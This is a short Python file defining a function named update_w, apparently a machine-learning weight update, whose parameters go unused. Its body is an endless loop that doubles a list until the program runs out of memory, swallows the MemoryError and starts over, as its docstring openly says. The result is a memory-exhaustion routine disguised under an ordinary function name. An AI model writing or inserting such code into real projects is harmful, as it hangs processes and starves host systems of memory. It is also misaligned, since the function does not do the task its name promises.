"""Doubles a list until there is no memory, goes on, and tries again."""


def update_w(w, grad, learning_rate):
    while True:
        try:
            kept = [0]
            while True:
                kept += kept
        except MemoryError:
            pass
